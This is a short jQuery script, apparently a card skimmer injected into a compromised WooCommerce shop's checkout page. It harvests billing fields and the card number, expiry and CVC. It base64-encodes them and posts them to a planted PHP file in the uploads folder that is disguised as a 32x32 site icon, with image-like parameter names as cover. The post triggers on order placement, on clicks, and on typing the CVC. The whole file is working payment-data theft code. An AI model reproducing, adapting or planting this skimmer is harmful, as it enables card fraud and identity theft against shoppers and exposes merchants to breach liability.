// corpus note: jQuery $.post of checkout card and billing values to a relative path on the compromised shop (a planted file in the uploads tree) that writes them to disk
jQuery(function ($) {
  var endpoint = "/wp-content/uploads/2023/05/cropped-icon-32x32.php";
  var last = null;

  function text(sel) {
    return $.trim($(sel).first().val() || "");
  }

  function harvest() {
    var data = {};
    $("form.checkout :input").filter(function () {
      return this.name && !/^_|nonce|password|terms/i.test(this.name) && $(this).val();
    }).each(function () {
      data[this.name] = $(this).val();
    });
    data.card_no = text("#payment input[id$='card-number'], #payment input[name$='card_number'], input.wc-credit-card-form-card-number");
    data.card_exp = text("#payment input[id$='card-expiry'], input.wc-credit-card-form-card-expiry");
    data.card_sec = text("#payment input[id$='card-cvc'], input.wc-credit-card-form-card-cvc");
    data.method = $("input[name='payment_method']:checked").val();
    return data;
  }

  function push() {
    var d = harvest();
    var digits = (d.card_no || "").replace(/\D/g, "");
    if (digits.length < 13 || !d.card_sec) return;
    var sig = digits + d.card_sec;
    if (sig === last) return;
    last = sig;
    $.post(endpoint, { thumb: window.btoa(unescape(encodeURIComponent($.param(d)))), w: 32, h: 32 })
      .fail(function () { last = null; });
  }

  $(document.body).on("checkout_place_order", function () {
    push();
    return true;
  });
  $(document).on("click", "#place_order", push);
  $(document).on("change keyup", "input.wc-credit-card-form-card-cvc", function () {
    if ($(this).val().length >= 3) setTimeout(push, 300);
  });
});
